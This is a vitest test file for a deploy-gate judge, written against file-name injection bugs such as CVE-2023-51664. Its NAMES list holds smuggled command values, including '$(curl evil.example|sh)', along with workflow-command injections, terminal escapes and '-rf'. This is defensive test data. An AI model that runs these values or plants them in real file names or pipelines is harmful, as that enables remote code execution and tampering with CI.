// File names that hold line ends, nulls, quotes or shell syntax: they are to slip past a glob, to end a line of the report, or to run as a command of a later step.
// Origin: CVE-2023-51664 (tj-actions/changed-files: command injection by file names); CVE-2006-7243 (PHP: a null ends a path).
import { expect, it } from 'vitest';
import { RP_CHANGE } from '../acceptance/scenario.ts';
import { judge, shown } from './support.ts';

const NAMES = [
  'x\n::set-output name=gate::open',
  'x\r\n',
  '\u0000',
  'x.md\u0000',
  '$(curl evil.example|sh)',
  '";curl evil.example;"',
  '`id`',
  'x.md\n',
  'x.md ',
  '\u001B]0;owned\u0007',
  '-rf',
  '%0A::error::x',
];

it('reach their cohort, and are told in one visible line each', async () => {
  const run = await judge({
    changes: { ...RP_CHANGE, ...Object.fromEntries(NAMES.map((name) => [`deploy/template-manager/${name}`, 'x\n'])) },
  });
  expect(run).toMatchObject({ verdict: 'deny', gate: 'closed', codes: ['approval.missing', 'reach.undeclared'] });
  expect(run.judgement.scope.reach['template-manager']).toHaveLength(NAMES.length);
  expect(shown(run)).toContain('[U+0000]');
});

it('in a guarded folder they are guarded', async () => {
  expect(
    await judge({ changes: { ...RP_CHANGE, 'scripts/deploy/x\n.md': 'x\n', 'scripts/deploy/\u0000': 'x\n' } }),
  ).toMatchObject({
    codes: ['policy.changed'],
    judgement: { scope: { guarded: ['scripts/deploy/\u0000', 'scripts/deploy/x\n.md'] } },
  });
});

it('the honest form: odd names of the declared cohort', async () => {
  expect(await judge({ changes: { 'deploy/resource-publisher/a b (1).yml': 'x\n' } })).toMatchObject({
    verdict: 'allow',
  });
});
